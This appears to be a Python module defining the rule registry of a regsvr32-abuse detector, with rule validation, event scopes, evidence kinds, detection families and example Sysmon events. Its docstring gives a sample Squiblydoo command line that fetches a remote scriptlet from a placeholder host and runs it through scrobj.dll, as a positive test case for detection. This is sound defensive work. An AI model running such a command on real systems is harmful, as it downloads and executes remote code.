"""The rule registry: each rule is declared once, with its metadata, next to its check (in
the rules package, by what it reads: rules/command_line.py, lineage.py, telemetry.py,
persistence.py).

    @rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)", COMMAND_LINE, risk=85,
          family="scriptlets_and_remote_payloads", evidence="scriptlet", techniques=(T,),
          sources=("L01", ...),
          description="...", positives=("regsvr32 /s /i:http://x/a.sct scrobj.dll",),
          negatives=("regsvr32 /s scrobj.dll",),
          sigma=spec("approximate", "process_creation", {...}, "selection_img and ...", "why"))
    def squiblydoo(inv):
        ...                     # the reason, naming the evidence, or None

A declaration is checked when it is made (a ValueError names the rule and what is wrong): the id
is R32-NNN, the risk an integer from 0 to 100, each ATT&CK id Tnnnn or Tnnnn.nnn, the family one
of FAMILY_KEYS, the evidence one of EVIDENCE, each lowering context one of LOWERING, and
``sigma`` either a Sigma translation (sigma_spec.spec) or sigma_spec.not_exportable(why): every
rule says how it exports. The Rule it makes is a frozen dataclass.

A rule's scope says what its check reads and which events it runs on, and the registry
enforces it (the detector only calls a check on events of its scope):
- COMMAND_LINE: the parsed command line (an Invocation) of a process whose image is regsvr32
  (renamed copies included); the check gets the Invocation, nothing else, so its answer can be
  remembered per command line.
- actor(kinds): events of these kinds whose acting process is regsvr32; the check gets the Event.
- child(): process creations whose parent is regsvr32; the check gets the Event.
- relaunch(): regsvr32 started by regsvr32; the check gets the Event.
- any_event(kinds): every event of these kinds (persistence, COM registrations); the Event.

A COMMAND_LINE rule may declare a gate (``gate=("url",)``): command-line features
(cmdline.FEATURES) of which a line must have one for the check to fire. The detector runs the
check only on such lines (the rules to run are worked out once per set of features); a rule
without a gate runs on every line. tests/test_rule_gates.py checks every gate against every
example and corpus line.

Examples are data: a string is the command line of a regsvr32 process creation; a dict holds
Sysmon fields, the rest filled from EXAMPLE_DEFAULTS for its event kind (None: absent). ``Rule.positives`` and
``Rule.negatives`` are the complete events.
"""
import dataclasses
import re
import typing

from .cmdline import FEATURES
from .sigma_spec import NotExportable, is_spec
from .fields import (DNS, FILE, IMAGE_LOAD, KIND_BY_CODE, NETWORK, PERSISTENCE, PROCESS,
                     REGISTRY, REMOTE_THREAD)

KINDS = (PROCESS, NETWORK, IMAGE_LOAD, REMOTE_THREAD, FILE, REGISTRY, DNS, PERSISTENCE)

# score -> severity: (lowest score, name), highest first. What each band means: docs/rules.md.
SEVERITIES = ((80, "critical"), (60, "high"), (40, "medium"), (20, "low"), (1, "informational"),
              (0, "none"))


def severity_for(score):
    for floor, name in SEVERITIES:
        if score >= floor:
            return name
    return "none"


class Scope(object):
    """Which events a rule's check runs on, and what it reads."""

    __slots__ = ("name", "kinds", "actor", "parent", "invocation")

    def __init__(self, name, kinds, actor=False, parent=False, invocation=False):
        self.name, self.kinds = name, tuple(kinds)
        self.actor = actor              # the event's acting process must be regsvr32
        self.parent = parent            # the event's parent process must be regsvr32
        self.invocation = invocation    # the check reads only the parsed command line

    def admits(self, kind, actor, parent):
        return kind in self.kinds and (actor or not self.actor) and (parent or not self.parent)

    def __repr__(self):
        return "Scope(%s)" % self.name


COMMAND_LINE = Scope("regsvr32's parsed command line", (PROCESS,), actor=True, invocation=True)


def actor(*kinds):
    return Scope("regsvr32's own %s events" % "/".join(kinds), kinds, actor=True)


def child():
    return Scope("processes started by regsvr32", (PROCESS,), parent=True)


def relaunch():
    return Scope("regsvr32 started by regsvr32", (PROCESS,), actor=True, parent=True)


def any_event(*kinds):
    return Scope("any %s event" % "/".join(kinds), kinds)


# Kinds of evidence: findings of different kinds are independent and raise the score together;
# findings of one kind describe the same fact (where the module is, say) and do not.
EVIDENCE = {
    "scriptlet": "a scriptlet runs (scrobj.dll, /i: scriptlet, .NET in a scriptlet)",
    "remote": "the payload comes over the network (URL, IP, SMB, WebDAV)",
    "location": "where the module is",
    "format": "what the module's file name says it is",
    "invocation": "how regsvr32 is called (switches, no arguments)",
    "syntax": "path or switch syntax written to evade string rules",
    "lineage": "which process started regsvr32",
    "identity": "what the regsvr32 binary itself is (renamed, relocated)",
    "behaviour": "what regsvr32 did next (children, injection)",
    "network": "regsvr32's own connections and look-ups",
    "load": "modules regsvr32 loaded",
    "persistence": "something set up to run regsvr32 or a scriptlet later",
    "campaign": "a named campaign's pattern",
}


# The detection families (families.py gives each its correlation search and ES metadata; it checks
# that it describes exactly these, and only the build and the tests import it).
FAMILY_KEYS = ("scriptlets_and_remote_payloads", "suspicious_paths_and_disguised_extensions",
               "implicit_dllregisterserver_and_odd_invocations", "parent_lineage",
               "children_of_regsvr32", "renamed_or_relocated_binary", "image_loads", "network",
               "registry_persistence_and_scrobj_com_hijack")

# Contexts that can explain a finding away (lowered_by=): what each means. When each holds and
# how far it lowers: score.CONTEXTS.
LOWERING = {
    "windows": "every module is part of Windows",
    "trusted": "every module is under Windows or Program Files",
    "own tree": "an installer or script registers its own software from its own folder tree",
    "agent": "a software deployment agent registers it",
}


RULE_ID = re.compile(r"R32-[0-9]{3}\Z")
TECHNIQUE = re.compile(r"T[0-9]{4}(?:\.[0-9]{3})?\Z")

@dataclasses.dataclass(frozen=True, eq=False)      # eq=False: compared and hashed by identity
class Rule(object):
    """One rule: its metadata, its check and its examples, typed and frozen, checked when made
    (validate). Made by the rule() decorator."""

    id: str                         # R32-NNN
    title: str
    scope: Scope                    # what the check reads, and which events it runs on
    check: typing.Callable          # Invocation or Event -> the reason (str) or None
    risk: int                       # 0-100
    family: str                     # one of FAMILY_KEYS
    evidence: str                   # one of EVIDENCE
    techniques: typing.Tuple[str, ...]      # ATT&CK ids
    sources: typing.Tuple[str, ...]         # the seed analytics and public rules it reproduces
    description: str
    positives: typing.Tuple[dict, ...]      # complete events it must fire on
    negatives: typing.Tuple[dict, ...]      # complete events it must not fire on
    sigma: object                   # sigma_spec.spec(...) or sigma_spec.not_exportable(why)
    false_positives: str = ""
    lowered_by: typing.Tuple[str, ...] = ()     # LOWERING keys
    # cmdline.FEATURES of which a line must have one for the check to fire: the detector runs
    # it only on such lines; () runs it on every line. tests/test_rule_gates.py proves each.
    gate: typing.Tuple[str, ...] = ()

    def __post_init__(self):
        validate(self.id, self.scope, self.risk, self.family, self.evidence, self.techniques,
                 self.sources, self.lowered_by, self.sigma, self.gate)
        for name in ("techniques", "sources", "lowered_by", "gate"):
            object.__setattr__(self, name, tuple(getattr(self, name)))
        for name in ("positives", "negatives"):
            object.__setattr__(self, name, tuple(example_event(self.scope, e)
                                                 for e in getattr(self, name)))

    def replace(self, **changes):
        """A copy with these fields changed (checked again)."""
        return dataclasses.replace(self, **changes)

    @property
    def kinds(self):
        return self.scope.kinds

    @property
    def severity(self):
        return severity_for(self.risk)

    @property
    def exportable(self):
        return not isinstance(self.sigma, NotExportable)

    def __repr__(self):
        return "Rule(%s)" % self.id


def validate(id, scope, risk, family, evidence, techniques, sources, lowered_by, sigma, gate=()):
    def bad(message, *args):
        raise ValueError("%s: %s" % (id, message % args))
    if not isinstance(id, str) or not RULE_ID.match(id):
        bad("a rule id is R32-NNN")
    if not isinstance(scope, Scope):
        bad("unknown scope %r", scope)
    if type(risk) is not int or not 0 <= risk <= 100:
        bad("risk %r is not an integer from 0 to 100", risk)
    if family not in FAMILY_KEYS:
        bad("unknown family %r", family)
    if evidence not in EVIDENCE:
        bad("unknown kind of evidence %r", evidence)
    if isinstance(techniques, str) or not techniques or not all(
            isinstance(t, str) and TECHNIQUE.match(t) for t in techniques):
        bad("ATT&CK ids %r are not a list of Tnnnn or Tnnnn.nnn", techniques)
    if isinstance(sources, str):
        bad("sources is a list, not %r", sources)
    unknown = [key for key in lowered_by if key not in LOWERING]
    if unknown or isinstance(lowered_by, str):
        bad("unknown lowering context %r", unknown or lowered_by)
    if not (is_spec(sigma) or isinstance(sigma, NotExportable)):
        bad("sigma= is a Sigma translation (sigma_spec.spec) or not_exportable(why), not %r",
            sigma)
    if isinstance(gate, str) or not all(isinstance(f, str) and f in FEATURES for f in gate):
        bad("gate %r is not a list of command-line features (cmdline.FEATURES)", gate)
    if gate and not (isinstance(scope, Scope) and scope.invocation):
        bad("a gate names command-line features: only a COMMAND_LINE rule has one")


RULES_IN_ORDER = []       # as declared; RULES (below, by id) is built by finish()


def rule(id, title, scope, risk, family, evidence, techniques, sources, description, positives,
         negatives, sigma, false_positives="", lowered_by=(), gate=()):
    """Declare the decorated function as the check of a rule (see the module docstring)."""
    validate(id, scope, risk, family, evidence, techniques, sources, lowered_by, sigma, gate)

    def declare(check):
        RULES_IN_ORDER.append(Rule(
            id=id, title=title, scope=scope, check=check, risk=risk, family=family,
            evidence=evidence, techniques=techniques, sources=sources, description=description,
            positives=positives, negatives=negatives, sigma=sigma,
            false_positives=false_positives, lowered_by=lowered_by, gate=gate))
        return check
    return declare


# ---------------------------------------------------------------------------------------
# Examples

REGSVR32_PATH = "C:\\Windows\\System32\\regsvr32.exe"
EXAMPLE_HOST = {"Computer": "WS01", "User": "CORP\\alice"}
EXAMPLE_DEFAULTS = {
    PROCESS: {"EventCode": "1", "Image": REGSVR32_PATH, "ParentImage": "C:\\Windows\\System32\\cmd.exe"},
    IMAGE_LOAD: {"EventCode": "7", "Image": REGSVR32_PATH, "Signed": "true",
                 "SignatureStatus": "Valid", "Signature": "Microsoft Windows"},
    NETWORK: {"EventCode": "3", "Image": REGSVR32_PATH, "DestinationPort": "443",
              "Initiated": "true"},
    DNS: {"EventCode": "22", "Image": REGSVR32_PATH},
    FILE: {"EventCode": "11", "Image": REGSVR32_PATH},
    REGISTRY: {"EventCode": "13", "Image": REGSVR32_PATH},
    REMOTE_THREAD: {"EventCode": "8", "SourceImage": REGSVR32_PATH},
    PERSISTENCE: {"EventCode": "4698"},
}


def example_event(scope, example):
    """The complete event an example stands for."""
    if not isinstance(example, dict):
        example = {"CommandLine": example}
    code = example.get("EventCode")
    kind = KIND_BY_CODE[code] if code else scope.kinds[0]
    event = dict(EXAMPLE_HOST)
    event.update(EXAMPLE_DEFAULTS[kind])
    event.update(example)
    return dict((k, v) for k, v in event.items() if v is not None)   # None: the field is absent


# ---------------------------------------------------------------------------------------
# The registry, once every rule is declared.

def finish():
    """(RULES by id, RULES_BY_ID, the rules to run for each (kind, actor, parent) of an event)."""
    rules = tuple(sorted(RULES_IN_ORDER, key=lambda r: r.id))
    by_id = dict((r.id, r) for r in rules)
    if len(by_id) != len(rules):
        raise ValueError("duplicate rule ids")
    scoped = {}
    for kind in KINDS:
        for is_actor in (True, False):
            for parent in (True, False):
                scoped[kind, is_actor, parent] = tuple(
                    r for r in rules if r.scope.admits(kind, is_actor, parent))
    return rules, by_id, scoped
